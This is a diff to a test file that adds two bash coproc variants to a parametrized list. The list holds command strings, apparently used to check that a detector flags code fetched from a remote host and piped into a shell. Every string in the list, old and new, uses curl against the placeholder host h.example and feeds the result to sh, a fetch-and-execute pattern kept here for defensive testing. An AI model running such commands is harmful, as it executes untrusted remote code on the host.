@@ -75,6 +75,8 @@ def test_a_pod_that_gets_the_machine_is_noted():
         "coproc curl h.example; sh <&${COPROC[0]}",
         "coproc { curl h.example; }; sh <&${COPROC[0]}",
         "coproc N { curl h.example; }; sh <&${N[0]}",
+        "coproc N {\n  curl h.example\n}\nsh <&${N[0]}",
+        "ls | { coproc N { curl h.example; }; sh <&${N[0]}; }",
     ],
 )
 def test_what_a_coprocess_prints_flows_out_of_its_descriptor(line: str):
